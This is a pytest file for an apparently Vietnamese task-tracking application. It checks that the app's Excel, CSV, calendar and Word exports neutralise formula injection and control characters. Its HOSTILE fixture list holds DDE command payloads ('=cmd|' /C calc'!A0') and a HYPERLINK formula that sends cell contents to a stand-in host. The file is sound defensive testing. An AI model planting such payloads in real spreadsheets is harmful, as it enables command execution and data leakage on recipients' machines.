"""Nothing we write can execute: formula-like task texts and control characters in every
writer (request workbook, Excel export, audit export, .ics, urging letter .docx), each
file read back with the library a recipient's program would use."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from docx import Document
from icalendar import Calendar
from print_samples import ORG, on, plan, task

from app.cli import main
from app.db import ops
from app.db.reads.audit import AuditFilter, audit_ids, audit_rows
from app.exports.safe_text import clean, csv_field, formula_like
from app.importers.replies import DATA_SHEET, read_reply

UNIT = "Ban Tổ chức Tỉnh ủy"
DUE = on(date(2023, 6, 30))
# What a plan or a workbook from outside may hold as a task's text.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1, "Bấm vào đây")',
    "+84 912 345 678 — gọi trước khi gửi",
    "-2+3 đơn vị chưa báo cáo",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Báo cáo\x00 quý\x1b[31m I\x07 {{don_vi}} {{ngay}}",
]


@pytest.fixture
def hostile_db(db):
    ops.set_setting(db, "org", ORG)
    ops.import_plan(db, plan([task(t, UNIT, DUE) for t in HOSTILE]), today=date(2023, 5, 1))
    return db


def _run(db, *args: str) -> None:
    assert main(["--db", db.url if db.path is None else str(db.path), *args]) == 0


def _stored_texts(db) -> list[str]:
    from sqlalchemy import select

    from app.db.models import Task

    with db.read() as s:
        return sorted(s.scalars(select(Task.text)))


def _xlsx_text_cells(path: Path, sheet: str | None = None):
    wb = openpyxl.load_workbook(path)
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_the_shared_helper():
    assert all(formula_like(t) for t in ("=1", "+1", "-1", "@a", "\t=1", "\r=1"))
    assert not formula_like("Quý I/2024")
    assert clean("a\x00b\x1bc\td\ne\x7f\x85") == "abc\td\ne"
    assert csv_field("=1+1") == "'=1+1" and csv_field("Quý I") == "Quý I" and csv_field(5) == 5


def test_request_workbook_writes_texts_as_text_and_collect_gives_them_back(hostile_db, tmp_path):
    db = hostile_db
    out = tmp_path / "de-nghi.xlsx"
    _run(db, "request", "--department", UNIT, "--date", "2023-05-10", "--xlsx", str(out))
    cells = _xlsx_text_cells(out, DATA_SHEET)
    written = {c.value for c in cells}
    for text in _stored_texts(db):
        assert clean(text) in written
    for c in cells:
        assert c.data_type == "s", (c.coordinate, c.value)
        if formula_like(c.value):
            assert c.quotePrefix, c.coordinate
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in c.value)
    # The unit answers and sends the workbook back: each row's text is the original.
    reply = read_reply(out)
    got = sorted(r.text for r in reply.rows if r.key)
    assert got == sorted(clean(t) for t in _stored_texts(db))


def test_excel_export_writes_formula_like_texts_as_text(hostile_db, tmp_path):
    out = tmp_path / "xuat.xlsx"
    _run(hostile_db, "export", str(out))
    cells = _xlsx_text_cells(out)
    values = {c.value for c in cells}
    assert "=cmd|' /C calc'!A0" in values
    assert all(c.data_type == "s" for c in cells)
    assert not any("\x00" in v or "\x1b" in v for v in values)


def test_audit_export_xlsx_and_csv(hostile_db, tmp_path, qapp):
    from dataclasses import replace

    from app.ui.dialogs.audit import export_rows

    rows = audit_rows(hostile_db, audit_ids(hostile_db, AuditFilter()))
    assert rows
    # a summary quoting a task's text, and a user name chosen to be a formula
    rows.append(replace(rows[0], summary=HOSTILE[0], user="@SUM(1)\x00"))
    xlsx = tmp_path / "nhat-ky.xlsx"
    export_rows(xlsx, rows)
    cells = _xlsx_text_cells(xlsx)
    assert any(formula_like(c.value) for c in cells)  # the hostile texts are in the log
    for c in cells:
        assert c.data_type == "s"
        if formula_like(c.value):
            assert c.quotePrefix
    path = tmp_path / "nhat-ky.csv"
    export_rows(path, rows)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    assert not any(formula_like(f) for f in fields)
    assert not any("\x00" in f for f in fields)


def test_ics_carries_no_control_character_and_reads_back(hostile_db, tmp_path):
    out = tmp_path / "lich.ics"
    _run(hostile_db, "ics", str(out))
    raw = out.read_bytes()
    assert b"\x00" not in raw and b"\x1b" not in raw and b"\x07" not in raw
    cal = Calendar.from_ical(raw)
    summaries = [str(e.get("SUMMARY")) for e in cal.walk("VEVENT")]
    assert any("=cmd|' /C calc'!A0" in s for s in summaries)
    assert any("Báo cáo quý[31m I {{don_vi}}" in s for s in summaries), summaries


def test_urging_letter_keeps_texts_literal(hostile_db, tmp_path):
    out = tmp_path / "cong-van.docx"
    _run(hostile_db, "urge", "--department", UNIT, "--date", "2023-07-10", "--docx", str(out))
    doc = Document(str(out))
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    text = "\n".join(cells + [p.text for p in doc.paragraphs])
    assert "=cmd|' /C calc'!A0" in text
    # a placeholder written in a task's text is not filled in: it stays as written
    assert "{{don_vi}} {{ngay}}" in text
    assert "\x00" not in text and "\x1b" not in text
